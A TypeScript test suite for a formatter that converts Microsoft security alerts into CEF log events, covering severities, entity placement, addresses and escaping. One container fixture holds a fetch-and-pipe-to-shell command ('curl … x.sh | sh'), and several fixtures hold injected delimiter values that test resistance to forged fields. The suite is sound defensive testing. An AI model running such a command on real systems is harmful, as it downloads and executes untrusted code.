import { describe, expect, it } from 'vitest';
import type { Json, RelayRecord } from '../../../src/core/record.ts';
import { cef } from '../../../src/formats/cef/index.ts';
import { aRecord } from '../../support/records.ts';
import { aStamp, createFormat, formatCef, parseCef } from './support.ts';

type Fields = Record<string, Json>;

function evidence(type: string, fields: Fields = {}): Fields {
  return { '@odata.type': `#microsoft.graph.security.${type}Evidence`, verdict: 'unknown', ...fields };
}

const user = (name: string, fields: Fields = {}) =>
  evidence('user', { userAccount: { userPrincipalName: `${name}@contoso.com` }, ...fields });
const device = (name: string, fields: Fields = {}) => evidence('device', { deviceDnsName: name, ...fields });
const ip = (ipAddress: string, fields: Fields = {}) => evidence('ip', { ipAddress, ...fields });

function event(body: Fields = {}, overrides: Partial<RelayRecord> = {}) {
  const events = formatCef(aRecord(body, overrides), aStamp());
  expect(events).toHaveLength(1);
  return parseCef(events[0] ?? '');
}
const extensionOf = (body: Fields, overrides: Partial<RelayRecord> = {}) =>
  Object.fromEntries(event(body, overrides).extension);
const keysOf = (...pieces: Fields[]) => extensionOf({ evidence: pieces });

describe('what has changed', () => {
  it('stands first in cs6, from what to what', () => {
    const changed = [
      { field: 'status', from: 'new', to: 'resolved' },
      { field: 'assignedTo', from: '', to: 'ana = x ; forged:item' },
    ] as const;
    const { cs6 = '' } = extensionOf(
      { evidence: [ip('198.51.100.7'), ip('198.51.100.8')] },
      { outcome: 'update', changed },
    );
    const [first, second, ...others] = cs6.split(' ; ');
    expect([first, second]).toEqual([
      'changed:status:new>resolved',
      'changed:assignedTo:none>ana = x , forged:item',
    ]);
    expect(others.length).toBeGreaterThan(0);
  });

  it('is not told where it is not known, or nothing', () => {
    for (const more of [{}, { changed: [] }])
      expect(JSON.stringify(extensionOf({}, { outcome: 'update', ...more }))).not.toContain('changed:');
  });
});

describe('the header', () => {
  it.each([
    ['unknown', '5'],
    ['somethingNew', '5'],
    ['informational', '1'],
    ['low', '3'],
    ['medium', '6'],
    ['high', '8'],
    ['critical', '10'],
  ])('gives severity %s as %s', (severity, expected) => {
    expect(event({ severity }).header.severity).toBe(expected);
  });

  it('takes numbers for severities from the settings, all but those left out', () => {
    const ours = createFormat({ severity: cef.schema.shape.severity.parse({ high: 10, unknown: 0 }) });
    const severityOf = (severity: string) =>
      parseCef(ours(aRecord({ severity }), aStamp())[0] ?? '').header.severity;
    expect(['high', 'medium', 'HIGH', 'toString', ''].map(severityOf)).toEqual(['10', '6', '10', '0', '0']);
    expect(cef.schema.safeParse({ type: 'cef', severity: { high: 11 } }).success).toBe(false);
  });

  it.each([
    ['microsoftDefenderForEndpoint', 'Microsoft Defender for Endpoint'],
    ['azureAdIdentityProtection', 'Microsoft Entra ID Protection'],
    ['constructor', 'Microsoft Defender'],
  ])('names the product of %s', (serviceSource, product) => {
    expect(event({ serviceSource }).header.product).toBe(product);
  });

  it.each([
    ['the detector', { detectorId: 'x_1', alertPolicyId: 'p' }, 'x_1'],
    ['the policy', { detectorId: '00000000-0000-0000-0000-000000000000', alertPolicyId: 'p' }, 'p'],
    ['the policy', { detectorId: 'unknown', alertPolicyId: 'p' }, 'p'],
    ['the title', { detectorId: null, title: "'Emotet' malware on 3 hosts" }, 'title:malware-on-hosts'],
    ['the title', { detectorId: '', title: "Bob's mailbox" }, 'title:bob-s-mailbox'],
    ['a word', { detectorId: '', title: '2025' }, 'title:alert'],
  ])('makes the class id of %s', (_, body: Fields, expected) => {
    expect(event(body).header.classId).toBe(expected);
  });

  it('makes the class id of the category or title when told to', () => {
    const classId = (signatureId: 'category' | 'title') => {
      const [line = ''] = createFormat({ signatureId })(aRecord({ title: 'A "b" c' }), aStamp());
      return parseCef(line).header.classId;
    };
    expect(classId('category')).toBe('Execution');
    expect(classId('title')).toBe('title:a-c');
  });

  it('is never empty: the name falls back to the category, then to a word', () => {
    expect(event({ title: ' \0 ' }).header.name).toBe('Execution');
    expect(event({ title: null, category: [] }).header.name).toBe('Alert');
  });

  it('S8: cuts a long title and says so', () => {
    const { header, extension } = event({ title: 'x'.repeat(1_000_000) });
    expect(header.name).toBe(`${'x'.repeat(511)}…`);
    expect(extension.get('cs6')).toBe('truncated:1');
  });
});

describe('the fields of an alert', () => {
  it('shortens a long id so that it stays the same, and keeps the whole in the link', () => {
    const id = 'ad'.repeat(33);
    const { externalId } = extensionOf({ id });
    expect(externalId).toMatch(/^(ad){11}a~[0-9a-f]{16}$/);
    expect(externalId).toHaveLength(40);
    expect(extensionOf({ id }).externalId).toBe(externalId);
    expect(extensionOf({ id: `${id}x` }).externalId).not.toBe(externalId);
  });

  it('tells a long id whole when no link has it', () => {
    const id = 'ad'.repeat(33);
    expect(extensionOf({ id, alertWebUrl: null }).cs6).toBe(`id:${id}`);
    expect(extensionOf({ id, alertWebUrl: `https://x/${id}` })).not.toHaveProperty('cs6');
    expect(extensionOf({ id: 'short', alertWebUrl: null })).not.toHaveProperty('cs6');
  });

  it('leaves out a category that is none', () => {
    expect(extensionOf({ category: 'None' })).not.toHaveProperty('cat');
    expect(event({ title: null, category: 'none' }).header.name).toBe('Alert');
  });

  it('leaves out dates of the year 1 and what is no date', () => {
    const fields = extensionOf({
      firstActivityDateTime: '0001-01-01T00:00:00Z',
      lastActivityDateTime: 'soon',
    });
    expect(fields).not.toHaveProperty('start');
    expect(fields).not.toHaveProperty('end');
  });

  it('tells the identity of each telling', () => {
    expect(extensionOf({}, { revision: 638822304315566667n }).devicePayloadId).toBe('638822304315566667');
    expect(extensionOf({}, { revision: 5n, unrevised: 2, outcome: 'unrevised' }).devicePayloadId).toBe('5.2');
  });

  it.each(['new', 'update'] as const)('does not tell the time of sending of outcome %s', (outcome) => {
    expect(extensionOf({}, { outcome })).not.toHaveProperty('flexDate1');
  });

  it.each(['unrevised', 'late', 'repair', 'retry', 'replay'] as const)(
    'S10: tells the time of sending of outcome %s beside that of the event',
    (outcome) => {
      expect(extensionOf({}, { outcome })).toMatchObject({
        outcome,
        rt: '1741083601326',
        flexDate1: '1741083700000',
        flexDate1Label: 'sent',
      });
    },
  );

  it.each([
    [
      { threatDisplayName: 'Emotet', threatFamilyName: 'Trojan', actorDisplayName: 'Mummy' },
      'Emotet (Trojan; actor Mummy)',
    ],
    [{ threatDisplayName: 'Emotet', actorDisplayName: 'Mummy' }, 'Emotet (actor Mummy)'],
    [{ actorDisplayName: 'Mummy' }, 'actor Mummy'],
  ])('tells the threat: %j', (body: Fields, expected) => {
    expect(extensionOf(body)).toMatchObject({ cs4Label: 'threat', cs4: expected });
  });

  it('leaves out an unknown classification or determination', () => {
    expect(extensionOf({ classification: 'truePositive', determination: 'unknown' }).flexString2).toBe(
      'truePositive',
    );
    expect(extensionOf({ classification: 'unknown' })).not.toHaveProperty('flexString2');
  });

  it.each([
    ['28282', '28282'],
    ['0010', '10'],
    [28282, '28282'],
    ['abc', undefined],
    ['99999999999999999999', undefined],
  ])('gives incident id %j only when it is an integer', (incidentId, expected) => {
    expect(extensionOf({ incidentId }).cn1).toBe(expected);
  });

  it.each([
    [['blocked', 'active'], 'active'],
    [['remediated', 'blocked'], 'blocked'],
    [['none', 'remediated'], 'remediated'],
    [['none'], 'detected'],
  ])('sums %j up as %s', (statuses: string[], expected) => {
    const pieces = statuses.map((remediationStatus, index) => user(`u${index}`, { remediationStatus }));
    expect(keysOf(...pieces).act).toBe(expected);
  });

  it('ends cs6 with tags and custom details', () => {
    const { cs6 } = extensionOf({
      systemTags: ['Defender Experts'],
      customDetails: { '@odata.type': '#x', Owner: 'blue', Count: 3 },
      evidence: [device('a'), device('b', { tags: ['VDI'] })],
    });
    expect(cs6).toBe('device:b ; tag:Defender Experts ; tag:VDI ; custom:Owner:blue ; custom:Count:3');
  });
});

describe('the primary entity', () => {
  it('stands on the side that its role names', () => {
    expect(keysOf(user('a', { roles: ['attacked'] }), user('b', { roles: ['attacker'] }))).toMatchObject({
      duser: 'a@contoso.com',
      suser: 'b@contoso.com',
    });
  });

  it('stands on the source side with both roles or none', () => {
    expect(keysOf(user('a', { roles: ['source', 'destination'] })).suser).toBe('a@contoso.com');
    expect(keysOf(user('a')).suser).toBe('a@contoso.com');
  });

  it.each([
    ['by role', user('a', { verdict: 'malicious' }), user('b', { roles: ['compromised'] })],
    ['by being the main device', device('a'), device('b', { detailedRoles: ['PrimaryDevice'] })],
    ['by verdict', user('a', { verdict: 'noThreatsFound' }), user('b')],
  ])('is found %s', (_, lesser: Fields, main: Fields) => {
    const fields = keysOf(lesser, main);
    expect(fields.suser ?? fields.shost).toMatch(/^b/);
    expect(fields.cs6).toMatch(/:a/);
  });

  it('takes its keys from one piece of evidence', () => {
    const fields = keysOf(
      evidence('fileHash', { algorithm: 'sha256', value: 'ab', verdict: 'malicious' }),
      evidence('file', { fileDetails: { fileName: 'x.exe', sha256: 'cd' } }),
    );
    expect(fields).toMatchObject({ fileHash: 'ab', cs6: 'file:x.exe/sha256:cd' });
    expect(fields).not.toHaveProperty('fname');
  });

  it('counts once, however it is written', () => {
    const account = { accountName: 'bob', domainName: 'CONTOSO', userPrincipalName: 'bob@contoso.com' };
    const fields = keysOf(
      evidence('user', { userAccount: account }),
      evidence('user', { userAccount: { accountName: 'BOB', domainName: 'contoso' } }),
      evidence('mailbox', { primaryAddress: 'Bob@contoso.com' }),
    );
    expect(fields.suser).toBe('bob@contoso.com');
    expect(fields).not.toHaveProperty('cs6');
  });

  it('adds roles, verdict and notes that come with a later sight of it, and only these', () => {
    const bob = { accountName: 'bob', domainName: 'CONTOSO' };
    const fields = keysOf(
      evidence('user', { userAccount: bob, roles: ['attacker'] }),
      evidence('user', { userAccount: bob, roles: ['compromised'], verdict: 'malicious' }),
      evidence('user', { userAccount: bob, roles: ['compromised'], verdict: 'malicious' }),
      evidence('process', { processId: 7, userAccount: { ...bob, userSid: 'S-1-5-21-1' } }),
      device('a', { mdeDeviceId: '1', riskScore: 'high' }),
      device('a', { mdeDeviceId: '1', riskScore: 'high', loggedOnUsers: [bob] }),
    );
    expect(fields).toMatchObject({ suser: 'CONTOSO\\bob', suid: 'S-1-5-21-1', shost: 'a' });
    expect(fields.cs6).toBe(
      'user:CONTOSO\\bob[compromised,malicious] ; device:a/loggedOn:CONTOSO\\bob ; mdeDeviceId:1 ; risk:high',
    );
  });

  it('keeps what is known of the people and the address of a message', () => {
    const mail = evidence('analyzedMessage', {
      networkMessageId: 'n',
      p2Sender: { emailAddress: 'friend@evil.example' },
      recipientEmailAddress: 'ann@contoso.com',
      senderIp: '198.51.100.192',
    });
    const account = { userPrincipalName: 'Ann@contoso.com', azureAdUserId: 'u-1', domainName: 'CONTOSO' };
    const sender = ip('198.51.100.192', { verdict: 'malicious', countryLetterCode: 'IE', roles: ['source'] });
    const fields = keysOf(
      mail,
      evidence('user', { userAccount: account, roles: ['compromised'], verdict: 'malicious' }),
      sender,
      evidence('mailbox', { primaryAddress: 'ann@contoso.com', roles: ['destination'] }),
    );
    expect(fields).toMatchObject({
      suser: 'friend@evil.example',
      duser: 'ann@contoso.com',
      duid: 'u-1',
      dntdom: 'CONTOSO',
      src: '198.51.100.192',
      cs6: 'user:Ann@contoso.com[compromised,malicious] ; ip:198.51.100.192/country:IE[source,malicious]',
    });
    expect(fields).not.toHaveProperty('suid');
  });

  it('G21: two devices with one name and two ids are two', () => {
    expect(keysOf(device('a', { mdeDeviceId: '1' }), device('a', { mdeDeviceId: '2' })).cs6).toBe(
      'device:a/mdeDeviceId:2 ; mdeDeviceId:1',
    );
  });
});

describe('an address', () => {
  it('without role is the remote party in an Endpoint alert', () => {
    expect(keysOf(ip('198.51.100.9')).dst).toBe('198.51.100.9');
  });

  it('without role stands opposite to a device that is attacked: host and address of a side are one machine', () => {
    const attacked = device('a', { roles: ['attacked'], lastIpAddress: '10.0.0.1' });
    expect(keysOf(ip('198.51.100.9'), attacked)).toMatchObject({
      src: '198.51.100.9',
      dhost: 'a',
      dst: '10.0.0.1',
    });
  });

  it('of an attacker never stands beside the device that it harmed', () => {
    const attacked = device('a', { roles: ['attacked'], lastIpAddress: '10.0.0.1' });
    const server = ip('198.51.100.9', { roles: ['commandAndControl'] });
    expect(keysOf(attacked, server)).toMatchObject({ dhost: 'a', dst: '10.0.0.1', src: '198.51.100.9' });

    const compromised = device('b', { roles: ['compromised'] });
    const attacker = ip('198.51.100.9', { roles: ['attacker'] });
    const fields = keysOf(compromised, attacker);
    expect(fields).toMatchObject({ shost: 'b', dst: '198.51.100.9' });
    expect(fields).not.toHaveProperty('src');

    expect(keysOf(compromised, attacked, attacker)).toMatchObject({
      shost: 'b',
      dhost: 'a',
      dst: '10.0.0.1',
      cs6: 'ip:198.51.100.9[attacker]',
    });
  });

  it('of an attacker stands beside the device of the attacker', () => {
    const attacker = ip('10.0.0.9', { roles: ['attacker'] });
    const victim = device('b', { roles: ['compromised'] });
    expect(keysOf(device('a', { roles: ['attacker'] }), victim, attacker)).toMatchObject({
      shost: 'a',
      src: '10.0.0.9',
    });
    const own = device('b', { roles: ['compromised'], ipInterfaces: ['10.0.0.9'] });
    expect(keysOf(own, attacker)).toMatchObject({ shost: 'b', src: '10.0.0.9' });
  });

  it('of a device in the alert is not', () => {
    const fields = keysOf(ip('10.0.0.1'), device('a', { ipInterfaces: ['10.0.0.1'] }));
    expect(fields).toMatchObject({ src: '10.0.0.1' });
    expect(fields).not.toHaveProperty('dst');
  });

  it('without role is the source in other alerts', () => {
    const fields = extensionOf({
      serviceSource: 'azureAdIdentityProtection',
      evidence: [ip('198.51.100.9')],
    });
    expect(fields.src).toBe('198.51.100.9');
  });

  it('of a device is told even when another has its key', () => {
    const fields = keysOf(ip('10.0.0.1', { roles: ['source'] }), device('a', { lastIpAddress: '10.0.0.2' }));
    expect(fields).toMatchObject({ src: '10.0.0.1', shost: 'a', cs6: 'ip:10.0.0.2' });
  });

  it.each([
    ['2001:DB8::1', 'c6a3', '2001:db8::1'],
    ['fe80::1%5', 'c6a3', 'fe80::1'],
    ['::ffff:192.0.2.1', 'dst', '192.0.2.1'],
    ['::FFFF:c000:201', 'dst', '192.0.2.1'],
  ])('%s stands under %s', (address, key, expected) => {
    expect(keysOf(ip(address))[key]).toBe(expected);
  });

  it.each(['0.0.0.0', '255.255.255.255', '::', '::ffff:0.0.0.0'])(
    '%s is nobody’s: it has no key',
    (address) => {
      const mail = evidence('analyzedMessage', { networkMessageId: 'n', senderIp: address });
      const connection = evidence('networkConnection', {
        sourceAddress: { ipAddress: '10.0.0.1' },
        destinationAddress: { ipAddress: address },
      });
      const alone = device('a', { lastIpAddress: address });
      for (const piece of [ip(address), mail, connection, alone]) {
        const { src, dst, c6a2, c6a3, cs6 } = keysOf(piece);
        expect({ src, dst, c6a2, c6a3 }).toEqual({ src: piece === connection ? '10.0.0.1' : undefined });
        expect(cs6).toContain(address.replace('::ffff:', ''));
      }
    },
  );

  it('of a device is one that can be reached, wherever it stands', () => {
    const interfaces = { ipInterfaces: ['127.0.0.1', '10.0.0.7'] };
    expect(keysOf(device('a', { lastIpAddress: 'fe80::1', ...interfaces }))).toMatchObject({
      src: '10.0.0.7',
    });
    expect(keysOf(device('a', { lastIpAddress: '10.0.0.8', ...interfaces }))).toMatchObject({
      src: '10.0.0.8',
    });
    const linkLocal = keysOf(device('a', { lastIpAddress: 'fe80::1' }));
    expect(linkLocal).toMatchObject({ shost: 'a', cs6: 'ip:fe80::1' });
    expect(linkLocal).not.toHaveProperty('c6a2');
  });

  it('that is none is not lost', () => {
    const fields = keysOf(ip('not an address'), device('a', { lastIpAddress: '999.1.1.1' }));
    expect(fields).not.toHaveProperty('src');
    expect(fields.cs6).toBe('ip:not an address ; ip:999.1.1.1');
  });
});

describe('evidence', () => {
  it('of a type nobody knows is shown in short', () => {
    const fields = keysOf(
      evidence('aFuture', { displayName: 'D' }),
      evidence('aFuture2', { depth: { a: { b: { c: { d: 1 } } } }, big: 12345678901234567890n }),
      { '@odata.type': '#x; forged:', verdict: 'malicious' },
    );
    expect(fields.cs6).toBe(
      'evidence[malicious] ; aFuture:D ; aFuture2:{"depth":{"a":{"b":{"c":…}}},"big":12345678901234567890}',
    );
  });

  it('cannot forge an item or a judgement in cs6', () => {
    const name = 'x ; user:admin[malicious]';
    const fields = keysOf(user('a'), evidence('user', { userAccount: { userPrincipalName: name } }));
    expect(fields.cs6).toBe('user:x , user:admin[malicious][unknown]');
  });

  it('gives way to a message for sender and recipient', () => {
    const fields = keysOf(
      user('carol', { roles: ['compromised'] }),
      evidence('analyzedMessage', {
        networkMessageId: 'n1',
        p1Sender: { emailAddress: 'bounce@evil.example' },
        recipientEmailAddress: 'ann@contoso.com',
        senderIp: '2001:db8::5',
        antiSpamDirection: 'Outbound',
        subject: 'Hi',
        attachmentsCount: 2,
        urls: ['https://evil.example:8443/a'],
      }),
    );
    expect(fields).toMatchObject({
      suser: 'bounce@evil.example',
      duser: 'ann@contoso.com',
      c6a2: '2001:db8::5',
      c6a2Label: 'Source IPv6 Address',
      deviceDirection: '1',
      fileId: 'n1',
      cs5Label: 'emailSubject',
      cs5: 'Hi',
      request: 'https://evil.example:8443/a',
      dhost: 'evil.example',
      cs6: 'user:carol@contoso.com[compromised] ; attachments:2',
    });
  });

  it('of a connection fills what is free, ports only with their address', () => {
    const connection = evidence('networkConnection', {
      sourceAddress: { ipAddress: '10.0.0.1' },
      sourcePort: 50_000,
      destinationAddress: { ipAddress: '198.51.100.1' },
      destinationPort: 443,
      protocol: 'tcp',
    });
    expect(keysOf(connection)).toMatchObject({
      src: '10.0.0.1',
      spt: '50000',
      dst: '198.51.100.1',
      dpt: '443',
      proto: 'tcp',
      cs6: 'networkConnection:10.0.0.1:50000>198.51.100.1:443/tcp',
    });
    const fields = keysOf(connection, ip('203.0.113.1'));
    expect(fields).toMatchObject({ src: '10.0.0.1', spt: '50000', dst: '203.0.113.1' });
    expect(fields).not.toHaveProperty('dpt');
    // Without either end of it the protocol would be said of other addresses.
    expect(
      keysOf(connection, ip('203.0.113.1'), ip('203.0.113.2', { roles: ['source'] })),
    ).not.toHaveProperty('proto');
  });

  it('of a process stands in for a missing file and user', () => {
    const process = evidence('process', {
      processId: 7,
      processCommandLine: 'sh -c x',
      imageFile: { fileName: 'sh', filePath: '/bin', sha1: 'aa' },
      parentProcessId: 1,
      parentProcessImageFile: { fileName: 'init' },
      userAccount: { accountName: 'root' },
    });
    expect(keysOf(process)).toMatchObject({
      sproc: '/bin/sh',
      spid: '7',
      fname: 'sh',
      filePath: '/bin/sh',
      fileHash: 'aa',
      suser: 'root',
      cs5Label: 'commandLine',
      cs5: 'sh -c x',
      cs6: 'parent:init(1)',
    });
    const withFile = keysOf(process, evidence('file', { fileDetails: { fileName: 'x' } }));
    expect(withFile).toMatchObject({ fname: 'x' });
    expect(withFile).not.toHaveProperty('fileHash');
  });

  it('of a container tells what it runs, and that it is privileged', () => {
    const container = evidence('container', {
      name: 'web',
      command: ['/bin/sh', '-c'],
      args: ['curl -s http://203.0.113.66/x.sh | sh'],
      isPrivileged: true,
    });
    expect(keysOf(container)).toMatchObject({
      destinationServiceName: 'web',
      cs5Label: 'commandLine',
      cs5: '/bin/sh -c curl -s http://203.0.113.66/x.sh | sh',
      cs6: 'privileged:true',
    });
    const process = evidence('process', { processId: 7, processCommandLine: 'runc' });
    expect(keysOf(process, container)).toMatchObject({
      cs5: 'runc',
      cs6: 'process:/bin/sh -c curl -s http://203.0.113.66/x.sh | sh ; privileged:true',
    });
    expect(keysOf(evidence('container', { name: 'web', isPrivileged: false }))).not.toHaveProperty('cs6');
  });

  it('of a blob tells its hashes', () => {
    const fileHashes = [
      { algorithm: 'sha256', value: 'ab' },
      { algorithm: 'md5', value: 'cd' },
    ];
    expect(keysOf(evidence('blob', { name: 'x.csv', fileHashes }))).toMatchObject({
      destinationServiceName: 'x.csv',
      fileHash: 'ab',
      cs6: 'fileHash:md5:cd',
    });
  });

  it.each([
    ['bounce@amazonses.example', 'friend@fabrikam.example', 'p1Sender:bounce@amazonses.example'],
    ['bounce@mail.fabrikam.example', 'friend@fabrikam.example', undefined],
    ['bounce@evilfabrikam.example', 'friend@fabrikam.example', 'p1Sender:bounce@evilfabrikam.example'],
    ['friend@Fabrikam.example', 'friend@fabrikam.example', undefined],
    ['', 'friend@fabrikam.example', undefined],
    ['friend@fabrikam.example', '', undefined],
  ])('of a message from %j in the name of %j: %s', (p1, p2, cs6) => {
    const mail = { p1Sender: { emailAddress: p1 }, p2Sender: { emailAddress: p2 } };
    expect(keysOf(evidence('analyzedMessage', { networkMessageId: 'n', ...mail })).cs6).toBe(cs6);
  });

  it('of a message tells what was found in it and where it went', () => {
    const found = { threats: ['Phish', 'ZapPhish'], deliveryAction: 'Delivered', deliveryLocation: 'Inbox' };
    expect(keysOf(evidence('analyzedMessage', { networkMessageId: 'n', ...found })).cs6).toBe(
      'threat:Phish ; threat:ZapPhish ; deliveryAction:Delivered ; deliveryLocation:Inbox',
    );
  });

  it('of a session names its device, also without a user agent', () => {
    const session = evidence('cloudLogonSession', {
      sessionId: 's',
      deviceName: 'pc1',
      account: { userAccount: { userPrincipalName: 'bob@contoso.com' } },
    });
    expect(keysOf(session)).toMatchObject({
      shost: 'pc1',
      suser: 'bob@contoso.com',
      cs6: 'cloudLogonSession:s',
    });
    expect(keysOf(session, device('srv1')).cs6).toBe('cloudLogonSession:s ; device:pc1');
  });

  it('keeps a number that its key cannot hold', () => {
    const fields = keysOf(evidence('process', { processId: 4_294_967_295, imageFile: { fileName: 'a' } }));
    expect(fields).not.toHaveProperty('spid');
    expect(fields.cs6).toBe('spid:4294967295');
  });

  it('is read when nested, and not beyond a fixed depth', () => {
    let deep: Fields = { imageId: 'innermost' };
    for (let depth = 0; depth < 10_000; depth += 1) deep = { imageId: `image${depth}`, digestImage: deep };
    const fields = keysOf(
      evidence('kubernetesPod', { name: 'p', roles: ['attacked'], podIp: { ipAddress: '10.1.1.1' } }),
      evidence('containerImage', deep),
    );
    expect(fields).toMatchObject({ dst: '10.1.1.1', destinationServiceName: 'p' });
    expect(fields.cs6?.split(' ; ')).toEqual(
      [9999, 9998, 9997, 9996, 9995, 9994, 9993].map((depth) => `containerImage:image${depth}`),
    );
  });

  it('never has an identifier cut: it goes to cs6 whole', () => {
    const fields = keysOf(device(`${'h'.repeat(1100)}`));
    expect(fields).not.toHaveProperty('shost');
    expect(fields.cs6).toBe(`shost:${'h'.repeat(1100)} ; truncated:1`);
  });
});
